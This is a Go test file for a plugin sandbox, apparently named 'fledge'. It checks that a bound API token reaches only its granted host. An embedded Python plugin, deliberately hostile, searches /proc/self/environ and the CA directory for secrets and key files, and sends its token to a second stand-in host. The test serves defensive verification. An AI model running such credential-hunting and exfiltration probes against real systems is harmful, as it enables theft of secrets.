// SPDX-License-Identifier: MIT

//go:build linux

package main

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// boundSecretPlugin is a hostile fledge-v1 plugin granted API_TOKEN bound to api.test:443
// and plain other.test:80. It looks for the secret's value everywhere it can (its
// environment, /proc/self/environ, the session CA's dir), by hash: it is given the
// value's SHA-256 and length, never the value, and says only whether it found it. It calls
// the API with the token from its own process (python urllib) and through a command
// (curl), sends its placeholder to other.test (after a request without it, which must
// work), and prints its placeholder reversed (text fledge cannot recognise and redact, so
// a value here would show in the test's output).
const boundSecretPlugin = `#!/usr/bin/python3
import hashlib, json, os, re, sys, urllib.request
json.loads(sys.stdin.readline())
def send(m):
    sys.stdout.write(json.dumps(m) + "\n"); sys.stdout.flush()
def out(s):
    send({"type": "output", "text": s + "\n"})
want, n = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "value.sha256")).read().split()
n = int(n)
def holds(b):
    return any(hashlib.sha256(b[i:i+n]).hexdigest() == want for i in range(0, max(0, len(b) - n + 1)))
tok = os.environ.get("API_TOKEN", "")
out("env-token %s" % ("placeholder" if re.fullmatch(r"fledge-placeholder-[0-9a-f]{32}", tok) else "other:" + tok[::-1]))
out("env-reversed " + tok[::-1])
out("env-holds %s" % holds("\0".join(k + "=" + v for k, v in os.environ.items()).encode()))
environ = open("/proc/self/environ", "rb").read()
out("environ-holds %s" % holds(environ))
out("environ-placeholder %s" % (("API_TOKEN=" + tok + "\0").encode() in environ))
def get(url, auth):
    h = {"Authorization": "Bearer " + auth} if auth else {}
    try:
        return urllib.request.urlopen(urllib.request.Request(url, headers=h), timeout=20).read().decode()
    except Exception as e:
        return "fail:" + type(e).__name__
out("plugin-api " + get("https://api.test/from-plugin", tok))
out("other-plain " + get("http://other.test/", None))
out("other-placeholder " + get("http://other.test/", tok))
bundle = os.environ.get("SSL_CERT_FILE", "")
cadir = os.path.dirname(bundle)
try:
    out("ca-dir " + ",".join(sorted(os.listdir(cadir))))
except OSError as e:
    out("ca-dir unreadable:%d" % e.errno)
data = open(bundle, "rb").read() if bundle else b""
out("ca-bundle-key %s" % (b"PRIVATE KEY" in data))
for f in ("ca.key", "ca-key.pem", "key.pem"):
    try:
        open(os.path.join(cadir, f), "rb").read(); out("ca-key-read " + f)
    except OSError:
        pass
send({"type": "exec", "id": "1", "command":
      "curl -sS --max-time 20 -H \"Authorization: Bearer $API_TOKEN\" https://api.test/from-exec; echo; " +
      "printf 'exec-token-sha256 '; printf %s \"$API_TOKEN\" | sha256sum | cut -c1-64; " +
      "printf 'exec-environ-placeholder '; cat /proc/self/environ | tr '\\0' '\\n' | grep -c '^API_TOKEN=fledge-placeholder-'"})
r = json.loads(sys.stdin.readline())["value"]
for l in (r["stdout"] + r.get("stderr", "")).splitlines():
    if l.startswith("exec-"):
        out(l)
    elif l:
        out("exec-api " + l)
out("plugin-token-sha256 " + hashlib.sha256(tok.encode()).hexdigest())
out("done")
`

// A bound secret through the real CLI, against a stand-in for an API on the internet: the
// hostile plugin and its command hold only a placeholder (environment, /proc/self/environ),
// the API gets the real token from both, the placeholder sent to another granted
// destination is refused there and recorded, the session CA's dir holds its certificate
// and no key, and the value is nowhere in the plugin's output or the audit log, which
// names the secret on each request fledge put it into.
func TestBoundSecretThroughPlugin(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl not installed")
	}
	si := newStandIn(t, []string{"api.test", "other.test"}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// Says whether it got the real token, never echoes what it got.
		fmt.Fprintf(w, "auth-ok=%v path=%s", r.Header.Get("Authorization") == "Bearer "+boundValue, r.URL.Path)
	}))
	e := newPtyEnv(t, "")
	src := filepath.Join(filepath.Dir(e.home), "src", "boundp")
	require.NoError(t, os.MkdirAll(src, 0o700))
	m := "[plugin]\nname = \"boundp\"\nversion = \"0.1.0\"\nprotocol = \"fledge-v1\"\n\n[[commands]]\nname = \"boundp\"\nbinary = \"p.py\"\n\n" +
		"[capabilities]\nexec = true\nnetwork = [\"other.test:80\"]\nsecrets = [\"API_TOKEN@api.test:443\"]\n"
	require.NoError(t, os.WriteFile(filepath.Join(src, "plugin.toml"), []byte(m), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(src, "p.py"), []byte(boundSecretPlugin), 0o755))
	sum := sha256.Sum256([]byte(boundValue))
	require.NoError(t, os.WriteFile(filepath.Join(src, "value.sha256"), fmt.Appendf(nil, "%x %d\n", sum, len(boundValue)), 0o644))
	out, code := e.run(t, "--ni", "plugins", "install", "--yes", src)
	require.Equal(t, 0, code, "install: %s", out)
	assert.Contains(t, out, "api.test:443", "install shows the bound destination")

	set := exec.Command(e.fledge, "secrets", "set", "API_TOKEN")
	set.Env, set.Dir, set.Stdin = e.env, e.work, strings.NewReader(boundValue+"\n")
	b, err := set.CombinedOutput()
	require.NoError(t, err, "%s", b)

	res, code := si.run(t, e, "--ni", "boundp")
	t.Logf("plugin run:\n%s", res)
	require.Equal(t, 0, code, res)
	l := lines(res)
	require.Equal(t, "", l["done"], "the plugin ran to its end:\n%s", res)

	// What the plugin and its command hold: the placeholder, never the value.
	assert.Equal(t, "placeholder", l["env-token"])
	assert.Equal(t, "False", l["env-holds"], "the value in the plugin's environment")
	assert.Equal(t, "False", l["environ-holds"], "the value in /proc/self/environ")
	assert.Equal(t, "True", l["environ-placeholder"])
	placeholder := reverse(l["env-reversed"])
	require.Regexp(t, `^fledge-placeholder-[0-9a-f]{32}$`, placeholder)
	phSum := sha256.Sum256([]byte(placeholder))
	assert.Equal(t, hex.EncodeToString(phSum[:]), l["plugin-token-sha256"])
	assert.Equal(t, hex.EncodeToString(phSum[:]), l["exec-token-sha256"], "the command holds the same placeholder")
	assert.NotEqual(t, hex.EncodeToString(sum[:]), l["exec-token-sha256"], "the command holds the value")
	assert.Equal(t, "1", l["exec-environ-placeholder"])

	// The API got the real token from both.
	assert.Equal(t, "auth-ok=true path=/from-plugin", l["plugin-api"])
	assert.Equal(t, "auth-ok=true path=/from-exec", l["exec-api"])
	var paths []string
	for _, r := range si.requests() {
		assert.Equal(t, "Bearer "+boundValue, r.Auth, "%s %s", r.Method, r.Path)
		paths = append(paths, r.Path)
	}
	assert.ElementsMatch(t, []string{"/from-plugin", "/from-exec"}, paths)

	// Elsewhere: the same destination answers without the placeholder, refuses it.
	assert.Equal(t, "plain-body", l["other-plain"])
	assert.True(t, strings.HasPrefix(l["other-placeholder"], "fail:"), "the placeholder went to other.test: %s", l["other-placeholder"])
	assert.Equal(t, int64(1), si.plainHits.Load(), "only the request without the placeholder reached other.test")

	// The session CA: its certificate in the bundle, no key anywhere the plugin can look.
	assert.Equal(t, "ca.pem", l["ca-dir"])
	assert.Equal(t, "False", l["ca-bundle-key"])
	assert.NotContains(t, res, "ca-key-read")

	recs, raw := auditRecords(t, e)
	var injected []string
	var refused bool
	for _, r := range recs {
		if r.Event == "net_http" && r.Decision == "allow" {
			if s, _ := r.Details["secret"].([]any); len(s) == 1 && s[0] == "API_TOKEN" && r.Details["host"] == "api.test" {
				injected = append(injected, fmt.Sprint(r.Details["path"]))
			}
		}
		if r.Decision == "deny" && r.Details["why"] == "unbound_secret" && r.Details["host"] == "other.test" {
			refused = true
		}
	}
	slices.Sort(injected)
	assert.Equal(t, []string{"/from-exec", "/from-plugin"}, injected, "a net_http record naming the secret per request:\n%s", raw)
	assert.True(t, refused, "the placeholder sent to other.test is a deny record:\n%s", raw)

	log, err := os.ReadFile(filepath.Join(e.home, ".local", "state", "fledge", "audit.jsonl"))
	require.NoError(t, err)
	for where, text := range map[string]string{"the audit log": string(log), "audit show --json": raw, "the run's output": res} {
		for _, v := range []string{boundValue, reverse(boundValue), base64.StdEncoding.EncodeToString([]byte(boundValue))} {
			assert.NotContains(t, text, v, "the value in %s", where)
		}
	}
	assert.Regexp(t, regexp.MustCompile(`"event":"net_http"`), string(log))
}

const boundValue = "api-value-Qm7Rk2Zx9Lw4"

func reverse(s string) string {
	r := []rune(s)
	slices.Reverse(r)
	return string(r)
}
